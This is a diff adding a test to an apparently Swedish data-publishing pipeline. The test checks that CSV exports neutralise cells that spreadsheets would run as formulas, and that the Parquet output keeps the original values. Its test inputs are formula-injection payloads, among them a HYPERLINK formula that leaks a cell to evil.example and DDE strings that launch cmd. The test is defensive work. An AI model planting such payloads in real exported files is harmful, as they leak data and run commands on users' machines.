@@ -104,3 +104,38 @@ def test_an_open_reader_keeps_its_view_and_does_not_block_the_next_publish(hansy
     con = duckdb.connect(str(settings.marts_dir / "indikatorer.duckdb"), read_only=True)
     assert con.execute("select count(*) from sample").fetchone() == (2,)
     con.close()
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_in_the_csv_only(hansyn_env):
+    settings = load_settings()
+    titles = [
+        '=HYPERLINK("http://evil.example/?q="&A1;"Klicka")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "-5",  # numbers stay numbers
+        "+46",
+        "-1,5",
+        "Städ = fönster",  # not at the start: harmless
+    ]
+    values = ", ".join(
+        f"('A-{i}', '{t.replace(chr(39), chr(39) * 2)}', {i}, null, null, true, null, null)"
+        for i, t in enumerate(titles)
+    )
+    _warehouse(settings.warehouse, values)
+    publish(settings, ["sample"])
+    con = duckdb.connect()
+    csv_titles = [
+        r[0]
+        for r in con.execute(
+            f"select title from read_csv('{settings.marts_dir / 'sample.csv'}', delim=';', "
+            "header=true, all_varchar=true) order by n"
+        ).fetchall()
+    ]
+    assert csv_titles == ["'" + t for t in titles[:6]] + titles[6:]
+    parquet = f"{settings.marts_dir / 'sample.parquet'}"
+    assert [r[0] for r in con.execute(f"select title from '{parquet}' order by n").fetchall()] == (
+        titles
+    )
